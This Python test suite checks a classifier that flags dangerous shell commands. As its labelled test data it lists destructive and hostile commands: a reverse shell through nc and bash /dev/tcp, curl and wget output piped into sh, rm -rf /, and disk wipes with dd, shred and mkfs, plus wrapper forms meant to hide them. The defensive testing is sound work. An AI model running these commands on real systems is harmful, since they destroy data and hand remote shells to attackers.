"""The safety screen: its table, the labelled set, what the original filter got wrong, and texts of every kind."""

import ast
import json
import subprocess
import sys
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from dryfit.common.errors import UserError
from scripts.common.code_digests import imported_modules
from scripts.tasks.shell.embedded import generate
from scripts.tasks.shell.screen.__main__ import evaluate, labelled, table
from scripts.tasks.shell.screen.policy import LEVELS, build, screen

ROOT = Path(__file__).resolve().parents[5]
DATA = ROOT / "tests" / "data"
SCREEN = ROOT / "scripts" / "tasks" / "shell" / "screen"
WORKING = DATA / "screen_working.tsv"
POLICY = build()
ROWS = labelled(str(WORKING))


@pytest.fixture(scope="module")
def result():
    return evaluate(ROWS, POLICY)


@pytest.mark.parametrize("rule", POLICY.rules.values(), ids=lambda rule: rule.id)
def test_a_rule_tells_what_it_is_about(rule):
    assert rule.verdict.level in LEVELS
    assert rule.verdict.attack.startswith("T1")
    assert len(rule.fires) >= 1 and len(rule.passes) >= 1


def test_the_policy_and_its_language_stay_small():
    """Counted in statements: a line may hold as much or as little as the formatter likes."""
    statements = 0
    for path in SCREEN.glob("*.py"):
        nodes = ast.walk(ast.parse(path.read_text()))
        statements += sum(isinstance(node, ast.stmt) for node in nodes)
    policy_lines = 0
    for path in (ROOT / "config" / "screen").glob("*.yaml"):
        policy_lines += len(path.read_text().splitlines())
    assert statements <= 2_000
    assert policy_lines <= 1_600


def test_the_digest_of_a_job_that_screens_covers_every_module_of_the_screen():
    modules = {*SCREEN.glob("*.py")} - {SCREEN / "__main__.py"}
    assert len(modules) > 10 and modules <= {*imported_modules(SCREEN.parent / "screening.py")}


def test_the_labelled_set_is_large_balanced_and_apart_from_the_examples():
    commands = [command for _, _, command in ROWS]
    examples = {
        command for rule in POLICY.rules.values() for command in (*rule.fires, *rule.passes)
    }
    harmless = sum(label == "ok" for label, _, _ in ROWS)
    assert len(commands) >= 400
    assert len(set(commands)) == len(commands)
    assert not examples & set(commands)
    assert 0.4 < harmless / len(commands) < 0.6
    assert {category for label, category, _ in ROWS if label == "danger"} == {
        rule.verdict.category for rule in POLICY.rules.values()
    }


def test_recall_and_false_alarms_on_the_part_to_work_with(result):
    assert result["total"]["recall"] >= 0.98, result["wrong"]
    assert result["total"]["false_alarm_rate"] <= 0.01, result["wrong"]
    for name, row in result["categories"].items():
        assert row["refused"] >= 0.95 * row["dangerous"], name
        assert row["false_alarms"] <= max(1, 0.05 * row["harmless"]), name


MISSED = """
rm --recursive --force /
rm -r -f -- /
find / -delete
mkfs.ext4 /dev/sda1
shred /dev/sda
nc -e /bin/sh 192.0.2.1 4444
bash -i >& /dev/tcp/192.0.2.1/4444 0>&1
bash <(curl -s https://example.com/x)
wget -O- https://example.com/x | sh
curl https://example.com/x | sudo bash
chmod -R 777 /
chown -R nobody /
sudo -i
dd of=/dev/sda bs=1M if=/dev/zero
r''m -rf /
docker run -v /:/host alpine
"""
BLOCKED = """
rm /tmp/foo.txt
rm -rf build/
dd if=a.iso of=b.iso
base64 -d file
git config credential.helper store
"""


@pytest.mark.parametrize("command", MISSED.strip().split("\n"))
def test_what_the_original_filter_missed_is_flagged(command):
    assert screen(command).status == "danger"


@pytest.mark.parametrize("command", BLOCKED.strip().split("\n"))
def test_what_the_original_filter_blocked_passes(command):
    assert screen(command).status == "ok"


@pytest.mark.parametrize(
    "wrapped",
    [
        "sudo {}",
        "sudo -u root -- {}",
        "env A=1 {}",
        "/usr/bin/env {}",
        "nohup {} &",
        "timeout -k 1 10 {}",
        "nice -n 5 {}",
        "xargs {} < /dev/null",
        "find . -exec {} \\;",
        "sh -c '{}'",
        "bash -lc '{}'",
        "sudo sh -c 'env -i {}'",
        "eval '{}'",
        "$({})",
        "cat <({})",
        "echo '{}' | sh",
        "bash <<< '{}'",
        "ssh host '{}'",
        "if true; then {}; fi",
        "true && {}",
        "f() {{ {}; }}; f",
        "trap '{}' EXIT",
        "watch '{}'",
        "python3 -c \"import os; os.system('{}')\"",
    ],
)
def test_wrappers_hide_nothing(wrapped):
    assert screen(wrapped.format("rm -rf /etc")).status == "danger"
    assert screen(wrapped.format("rm -rf build")).status == "ok"


@pytest.mark.parametrize(
    "folder",
    [
        "/etc",
        "/home",
        "/home/bob",
        "~",
        "/usr/lib",
        "/srv",
        "/var/log",
        "/var/www/html",
        "build",
        "/opt/app/cache",
    ],
)
@pytest.mark.parametrize(
    "found",
    [
        "find {} -type f -size +50M -exec rm -f {{}} +",
        "find {} -size +1M -delete",
        "find {} -newer stamp -exec shred -u {{}} \\;",
        "find {} -type f -exec sh -c 'rm -f \"$1\"' _ {{}} \\;",
        "find {} -type f -print0 | xargs -0 rm -f",
        "find {} -user bob | xargs rm",
        "for f in $(find {} -size +1M); do rm -rf $f; done",
        "cd {} && git clean -fdx",
        "rsync -a --delete empty/ {}/",
        "fd . {} -x rm",
        "fd . {} -X rm -f",
    ],
)
def test_what_a_search_finds_is_deleted_as_by_its_folder(found, folder):
    direct = screen(f"rm -rf {folder}/*").status
    assert screen(found.format(folder)).status == ("danger" if "git" in found else direct)


@pytest.mark.parametrize(
    ("command", "status"),
    [
        ("find . -size +1M -delete", "ok"),  # of the folder that it runs in, some
        ("find . -type f -exec rm -f {} +", "danger"),  # all
        ("cd /etc && find . -size +1M -delete", "danger"),
        ("find /etc -size +1M -exec ls -lh {} +", "ok"),
        ("find /home -type f -exec truncate -s 0 {} +", "danger"),
        ("find /home -type f -exec truncate --size=0K {} +", "danger"),
        ("find /home -type f -exec truncate -s 10K {} +", "ok"),
        ("find /etc -regex '.*/x[0-9]' -delete", "ok"),
        ("find /var/log -mtime +30 -delete", "ok"),  # as log rotation does
        ("find /var/log -mtime -1 -delete", "danger"),
        ("find /var/log -mtime +30 | xargs rm", "ok"),
        ("find /var/log -name '*.gz' -size +1M -exec rm {} +", "ok"),
        ("find /var/log -size +1M -exec gzip {} +", "ok"),
        ("find / -name '*.iso' -size +4G -delete", "ok"),
        ("find /home/bob -name '*.js' -size +10M -delete", "ok"),  # so is rm /home/bob/*.js
        ("fd -e conf . /etc -X rm -f", "danger"),
        ("fd -e pyc -x rm", "ok"),
        ("fd '^core$' / -x rm {}", "ok"),
        ("rsync -an --delete empty/ /home/", "ok"),
        ("rsync -a --delete build/ host:/srv/", "ok"),
    ],
)
def test_what_a_search_leaves_out_and_asks_first_passes(command, status):
    assert screen(command).status == status


def test_a_verdict_tells_category_rule_severity_and_technique():
    verdict = screen("sudo dd if=/dev/zero of=/dev/sda")
    assert (verdict.status, verdict.category, verdict.rule) == (
        "danger",
        "disk-destruction",
        "write-disk",
    )
    assert (verdict.level, verdict.attack) == ("critical", "T1561")
    assert screen("ls").category is None


@pytest.mark.thorough
def test_the_embedded_data_passes():
    found = {
        row["command"]: screen(row["command"]).line() for row in generate(42, 1900, programs=30)
    }
    assert {command: line for command, line in found.items() if line != "ok"} == {}


@pytest.mark.parametrize(
    "text",
    [
        "if then",
        "rm -rf 'unclosed",
        "ls\0rm",
        "a" * 100_000,
        "$(" * 3000,
        "echo " + "$(echo " * 200 + ")" * 200,
        ")",
    ],
    ids=["syntax", "quote", "NUL", "long", "open", "deep", "bracket"],
)
def test_what_cannot_be_parsed_is_refused(text):
    assert screen(text).status == "unparsable"


BUSY = {
    "pipes to a shell": "nc a | " * 190 + "sh",
    "shells in a pipe": "sh | " * 190 + "nc a",
    "tees": "curl x | " + "tee a | " * 190 + "sh",
    "substitutions": "echo $(curl a)" * 190 + " | sh",
    "recursion": "f(){ f; f; };f",
    "doubling": "x=a;" + "x=$x$x;" * 40,
    "braces": "echo " + "{a,b}" * 30,
    "stars": "rm -rf " + "*" * 60_000,
    "parents": "cat " + "../" * 20_000,
    "calls": "python3 -c '" + "os.system(" * 6000 + "'",
    "options": "echo '" + "a -b " * 8000 + "' >> ~/.bashrc",
    "a long pipe": "a | " * 10_000 + "b",
    "an open pipe": "a|" * 30_000,
    "arrows": "<" * 60_000,
    "open expansions": "${" * 30_000,
    "pages": "echo '" + "<?php system(" * 4000 + "' > a.php",
    "paths": "kubectl get secret -o " + "jsonpath=" * 4000,
    "sockets": "python3 -c '" + "socket" * 6000 + "'",
    "edits": "sed -i '" + "1i /tmp" * 7000 + "' ~/.bashrc",
    "shadows": "foo '" + "(/etc/shadow" * 5000 + "'",
    "a megabyte": "echo " + "a b " * 250_000,
}


@pytest.mark.few(4)
@pytest.mark.parametrize("text", BUSY.values(), ids=BUSY)
def test_no_text_keeps_the_screen_busy(text):
    before = time.process_time()
    screen(text)
    assert time.process_time() - before < 10, "a bound against hanging, not a timing"


_PIECES = st.sampled_from(
    "rm -rf / ~ $HOME * sudo sh -c ' \" ` $( ) <( | || & && ; ;; > >> < <<EOF <<< { } ( \\ \n # ! [[ ]] [ ] if then fi"
    " for in do done while case esac f() x= $x ${x:-/} ${x[@]} $((1+1)) {a,b} {1..3} curl base64 -d echo printf find"
    " -exec {} + \\; xargs /dev/tcp/h/1 /etc/shadow \0 \ue000 \ue002 é \ud800 python3 eval . env A=b".split(
        " "
    )
)


def test_characters_beyond_the_scanners_table_do_not_crash():
    for code in (0x100, 0xFFFF, 0x10000, 0x49874, 0x10FFFF):
        for text in (
            f"{{{chr(code)}}}",
            f"echo {chr(code)} << {chr(code)}",
            f"$({chr(code)}",
            f"rm -rf / {chr(code)}",
        ):
            assert screen(text * 50).status in ("ok", "danger", "unparsable")
    assert screen("rm -rf / # \U0001f600").status == "danger"


@pytest.mark.thorough
@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.one_of(
        st.text(max_size=200),
        st.lists(_PIECES, max_size=25).map(" ".join),
        st.lists(_PIECES, max_size=25).map("".join),
    )
)
def test_no_text_crashes_the_screen(text):
    verdict = screen(text)
    assert verdict.status in ("ok", "danger", "unparsable")
    assert (verdict.status == "danger") == (verdict.rule is not None)


@settings(max_examples=150, deadline=None)
@given(st.binary(max_size=200))
def test_bytes_decoded_leniently_are_judged(data):
    assert screen(data.decode("utf-8", "replace")).line()


@settings(max_examples=100, deadline=None)
@given(
    st.sampled_from([c for label, _, c in ROWS if label == "danger"]),
    st.sampled_from(["ls; {}", "{} # note", "true && {}"]),
)
def test_company_does_not_make_a_command_safer(command, around):
    if (
        screen(command).status == "danger"
        and not command.rstrip().endswith("\\")
        and "#" not in command
    ):
        assert screen(around.format(command)).status != "ok"


def run(*arguments: str, data: bytes = b"") -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "scripts.tasks.shell.screen", *arguments],
        input=data,
        capture_output=True,
        cwd=ROOT,
    )


def test_the_command_line_answers_line_by_line():
    mark = b"\xef\xbb\xbf"  # of a file from Windows; files put together have it in between too
    done = run(
        data=mark + b"ls -l\n" + mark + b"rm -rf /\n\nif then\n\xff\xfe\r\necho 'rm -rf /'\n"
    )
    assert done.returncode == 0
    lines = done.stdout.decode().split("\n")
    assert lines[:4] == ["ok", "danger\tdestructive-files\tdelete-tree", "ok", "unparsable"]
    assert lines[4:] == ["unparsable", "ok", ""]


@pytest.mark.thorough
def test_the_command_line_evaluates(result):
    done = run("--evaluate", str(WORKING), "--json")
    assert done.returncode == 0
    assert json.loads(done.stdout) == result
    assert "| **all** |" in table(result)


@pytest.mark.thorough
def test_a_wrong_labelled_set_is_explained(tmp_path):
    broken = tmp_path / "set.tsv"
    broken.write_text("label\tcategory\tcommand\nmaybe\tx\tls\n")
    with pytest.raises(UserError, match="line 2"):
        labelled(str(broken))
    done = run("--evaluate", str(tmp_path / "none.tsv"))
    assert done.returncode == 2 and b"Traceback" not in done.stderr
